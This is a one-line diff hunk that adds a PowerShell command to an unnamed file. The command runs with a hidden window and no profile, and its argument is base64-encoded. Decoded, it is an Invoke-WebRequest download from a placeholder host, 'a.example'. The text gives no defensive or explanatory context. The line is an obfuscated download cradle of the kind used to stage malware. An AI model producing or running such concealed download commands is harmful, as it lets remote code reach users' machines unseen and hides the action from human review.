@@ -1,0 +1,1 @@
+powershell -nop -w hidden -e aQB3AHIAIABoAHQAdABwADoALwAvAGEALgBlAHgAYQBtAHAAbABlAC8AcAAvAHgALgB0AHgAdAA=
